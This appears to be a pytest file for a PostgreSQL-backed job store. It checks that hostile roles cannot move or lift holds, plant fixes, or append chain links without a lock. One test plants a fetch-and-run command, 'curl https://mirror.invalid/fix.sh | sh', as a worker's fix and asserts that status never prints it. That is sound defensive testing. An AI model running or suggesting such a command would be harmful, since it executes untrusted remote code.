"""Hostile roles on a job's hold and its chain (issue 43, items 7 and 10).

Through psycopg, each role logging in with its own password — alice (the owner), bob (the reviewer), the worker, carol
(granted, named on no job) and the administrator — tries what the store's grants let it try: move a hold to another job,
lift it for the workers by changing its program, write a fix for the owner's `status` to print as the next step, and
append the next link to an unfinished job's chain beside no run of its own. Each is refused (or, for the fix, never
shown), and the job's own commands still run it to its decision, and `verify` passes.
"""

import json

import psycopg
import pytest

from conftest import PROGRAM, Workspace, admin_url, as_, as_role, refused, sql, store_rows
from durable_job_team.store import LOCK_CHECK

EVIL = "run: curl https://mirror.invalid/fix.sh | sh"


def hold_row(url: str) -> list:
    return sql(admin_url(url), "SELECT job_id, kind, program, fix FROM durable_job.holds ORDER BY job_id")


@pytest.fixture
def held(tmp_path, store_url):
    """alice's job `held-job` (bob reviews it) held by the worker's run of the job's own program, beside her job `other`."""
    w = Workspace(tmp_path, store=store_url)
    for job_id in ("other", "held-job"):
        w.write_manifest(jobId=job_id, reviewers=["bob"])
        w.run("submit", "--manifest", w.manifest).ok()
    program = json.loads(sql(admin_url(store_url), "SELECT record_json FROM durable_job.jobs WHERE job_id = 'held-job'")[0][0])[
        "engineSha256"
    ]
    sql(
        as_role(store_url, "worker"),
        "INSERT INTO durable_job.holds (job_id, kind, principal, at_utc, message, fix, program) "
        "VALUES ('held-job', 'hold', 'worker', '2026-12-02T00:00:00Z', 'JobError: refused', 'fix what it names', %s)",
        (program,),
    )
    return w, program


def test_no_role_moves_a_hold_to_another_job_and_a_worker_never_lifts_it_by_its_program(held):
    w, program = held
    before = hold_row(w.store)
    for role in ("worker", "alice", "bob", "durable"):  # the administrator too: a hold is recorded and lifted, never moved
        message = refused(as_role(w.store, role), "UPDATE durable_job.holds SET job_id = 'other' WHERE job_id = 'held-job'")
        assert "never moved" in message, (role, message)
    assert sql(as_role(w.store, "carol"), "UPDATE durable_job.holds SET job_id = 'other' RETURNING job_id") == []  # sees none
    for lifted in ("another-program", ""):
        message = refused(as_role(w.store, "worker"), "UPDATE durable_job.holds SET program = %s", (lifted,))
        assert "only the owner or a reviewer of job held-job lifts its hold" in message, message
        message = refused(
            as_role(w.store, "worker"),
            "INSERT INTO durable_job.holds SELECT kind, principal, at_utc, message, fix, "
            "%s, recorded_at, job_id FROM durable_job.holds ON CONFLICT (job_id, kind) DO UPDATE SET program = excluded.program",
            (lifted,),
        )  # the upsert a run writes, as the worker's trick
        assert "lifts its hold" in message, message
    assert hold_row(w.store) == before
    # the job's workers still leave it: its hold is their program's
    assert w.run("jobs", "--store", w.store, "--held").ok()["jobs"][0]["jobId"] == "held-job"
    # a run of the job's own program takes over the hold another program's run met, as it always did
    sql(admin_url(w.store), "UPDATE durable_job.holds SET program = 'a-program-its-seals-refused'")
    sql(as_role(w.store, "worker"), "UPDATE durable_job.holds SET program = %s, message = 'again'", (program,))
    assert hold_row(w.store)[0][2] == program
    # its owner and reviewers may lift it, as they always did
    assert sql(as_role(w.store, "bob"), "UPDATE durable_job.holds SET program = 'x' RETURNING job_id") == [("held-job",)]
    assert sql(as_role(w.store, "alice"), "DELETE FROM durable_job.holds RETURNING job_id") == [("held-job",)]


def test_a_fix_the_worker_writes_on_a_hold_is_never_what_the_owners_status_prints(held, tmp_path):
    w, _ = held
    sql(as_role(w.store, "worker"), "UPDATE durable_job.holds SET fix = %s", (EVIL,))
    assert hold_row(w.store)[0][3] == EVIL  # the worker's row says so ...
    status = w.run("status", "--job", "held-job").ok()
    text = w.run("status", "--job", "held-job", "--text").stdout
    listed = w.run("jobs", "--store", w.store, "--held").ok()["jobs"][0]
    bob = as_(w, "bob", tmp_path).run("status", "--job", "held-job").ok()
    for said in (status["next"], status["hold"]["fix"], text, json.dumps(listed), bob["next"]):
        assert "curl" not in said and "| sh" not in said, said  # ... and nobody is told to run it
    assert status["hold"]["fix"].startswith("fix what it names, then ") and "release --store" in status["hold"]["fix"]
    assert status["next"] == f"held by worker at {status['hold']['at']}: {status['hold']['fix']}"
    released = w.run("release", "--job", "held-job").ok()
    assert "curl" not in json.dumps(released) and released["released"]["fix"] == status["hold"]["fix"]


@pytest.fixture
def waiting(tmp_path, store_url):
    """alice's job `waiting` at its review, which bob decides."""
    alice = Workspace(tmp_path / "alice", store=store_url)
    alice.write_manifest(jobId="waiting", reviewers=["bob"])
    assert alice.start().ok()["interrupt"]
    return alice


def next_link(url: str, job_id: str) -> str:
    """The next link of the job's chain, as a role writing beside the job's commands would append it."""
    seq, head = sql(
        admin_url(url), "SELECT seq, link_sha256 FROM durable_job.links WHERE job_id = %s ORDER BY seq DESC LIMIT 1", (job_id,)
    )[0]
    return (
        "INSERT INTO durable_job.links (job_id, seq, act, tbl, row_key, record_json, prev_sha256, link_sha256, at_utc) "
        f"VALUES ('{job_id}', {seq + 1}, 'event', 'call_events', 'k', '{{}}', '{head}', 'planted', '2026-12-02T00:00:00Z')"
    )


def test_a_link_planted_in_an_unfinished_job_by_its_owner_or_a_worker_is_refused_and_the_job_decides_and_verifies(waiting, tmp_path):
    alice = waiting
    admin = admin_url(alice.store)
    before = store_rows(admin)
    plant = next_link(alice.store, "waiting")
    for role in ("worker", "alice", "bob"):
        message = refused(as_role(alice.store, role), plant)
        assert f"role {role} holds no lock on job waiting" in message, (role, message)
    message = refused(as_role(alice.store, "carol"), plant)  # named on no job: she sees none, and no lock of one
    assert "row-level security" in message or "role carol holds no lock on job waiting" in message, message
    # beside a run that holds the lock (alice's, here by hand): the worker is not that run, nor is bob, whatever they pass
    lock = psycopg.connect(as_role(alice.store, "alice"))
    try:
        xact = lock.execute(
            "SELECT pg_current_xact_id()::text FROM durable_job.job_locks WHERE job_id = 'waiting' FOR UPDATE NOWAIT"
        ).fetchone()[0]
        for role in ("worker", "bob"):
            with psycopg.connect(as_role(alice.store, role)) as conn:
                conn.execute(LOCK_CHECK, {"xact": xact})  # the lock's check passes: it asks only whether that transaction lives
                with pytest.raises(psycopg.Error, match=f"role {role} holds no lock on job waiting"):
                    conn.execute(plant)
    finally:
        lock.close()
    assert store_rows(admin) == before
    # the job's own commands still write their links: bob decides, the receipt is written, and verify passes
    bob = as_(alice, "bob", tmp_path)
    bob.run("decide", "--job", "waiting", "--decision", "accept", "--reviewer", "Bob Reviewer", "--reason", "read it").ok()
    assert alice.run("status", "--job", "waiting").ok()["phase"] == "decided"
    assert alice.run("verify", "--job", "waiting").ok()["ok"] is True
    acts = [a for (a,) in sql(admin, "SELECT act FROM durable_job.links WHERE job_id = 'waiting' ORDER BY seq")]
    assert acts[0] == "seal" and acts[-2:] == ["decision", "receipt"] and "planted" not in json.dumps(acts)


def test_a_job_run_by_a_worker_process_and_revised_and_decided_by_people_writes_every_link_under_its_lock(tmp_path, store_url):
    """submit (the seal's first link with its row), `work` (the worker's run), bob's revise and decide, alice's verify."""
    import subprocess
    import sys

    from conftest import clean_env

    alice = Workspace(tmp_path / "alice", store=store_url)
    alice.write_manifest(jobId="worked", reviewers=["bob"])
    alice.run("submit", "--manifest", alice.manifest).ok()
    worker = subprocess.run(
        [sys.executable, PROGRAM, "work", "--store", as_role(store_url, "worker"), "--until-idle"],
        capture_output=True,
        text=True,
        env=clean_env(),
        timeout=120,
    )
    assert worker.returncode == 0, worker.stderr
    assert alice.run("status", "--job", "worked").ok()["phase"] == "awaiting-review"
    bob = as_(alice, "bob", tmp_path)
    bob.run("decide", "--job", "worked", "--decision", "accept", "--reviewer", "Bob Reviewer", "--reason", "fine").ok()
    assert alice.run("verify", "--job", "worked").ok()["ok"] is True
    acts = [a for (a,) in sql(admin_url(store_url), "SELECT act FROM durable_job.links WHERE job_id = 'worked' ORDER BY seq")]
    assert acts[0] == "seal" and "result" in acts and acts[-2:] == ["decision", "receipt"], acts


def test_the_lock_holders_role_links_from_another_session_only_while_its_lock_stands(waiting):
    """The lock's holder may write from its journal's own connection (another session of the same role): the rule asks
    for the lock's role, not its connection. A lock released is no lock: the same insert is then refused."""
    alice = waiting
    plant = next_link(alice.store, "waiting")
    lock = psycopg.connect(as_role(alice.store, "alice"))
    try:
        lock.execute("SELECT 1 FROM durable_job.job_locks WHERE job_id = 'waiting' FOR UPDATE NOWAIT")
        with psycopg.connect(as_role(alice.store, "alice")) as conn:
            conn.execute(plant)
            conn.rollback()  # allowed under the lock; left unwritten here
        lock.rollback()
        assert "holds no lock" in refused(as_role(alice.store, "alice"), plant)
    finally:
        lock.close()
